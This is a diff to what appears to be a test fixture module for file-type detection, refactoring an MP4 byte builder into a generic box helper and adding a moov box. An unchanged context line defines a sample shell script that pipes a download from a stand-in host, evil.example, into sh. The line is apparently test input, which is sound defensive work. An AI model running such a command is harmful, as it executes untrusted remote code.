@@ -101,11 +101,21 @@ SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
 PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
 
 
-def mp4_bytes(brand: bytes = b"isom", compatible=(b"isom", b"iso2", b"avc1", b"mp41"), payload: int = 1024) -> bytes:
-    ftyp_body = brand + struct.pack(">I", 0x200) + b"".join(compatible)
-    ftyp = struct.pack(">I", 8 + len(ftyp_body)) + b"ftyp" + ftyp_body
-    mdat = struct.pack(">I", 8 + payload) + b"mdat" + b"\x00" * payload
-    return ftyp + mdat
+def box(kind: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(body)) + kind + body
+
+
+def mp4_bytes(
+    brand: bytes = b"isom",
+    compatible=(b"isom", b"iso2", b"avc1", b"mp41"),
+    payload: int = 1024,
+    moov_last: bool = True,
+) -> bytes:
+    """An ISO-BMFF skeleton: ftyp, mdat and moov (last, as cameras write it, or first)."""
+    ftyp = box(b"ftyp", brand + struct.pack(">I", 0x200) + b"".join(compatible))
+    mdat = box(b"mdat", b"\x00" * payload)
+    moov = box(b"moov", box(b"mvhd", b"\x00" * 100) + box(b"trak", box(b"tkhd", b"\x00" * 84)))
+    return ftyp + (mdat + moov if moov_last else moov + mdat)
 
 
 def ebml_bytes(doctype: bytes = b"webm", payload: int = 1024) -> bytes:
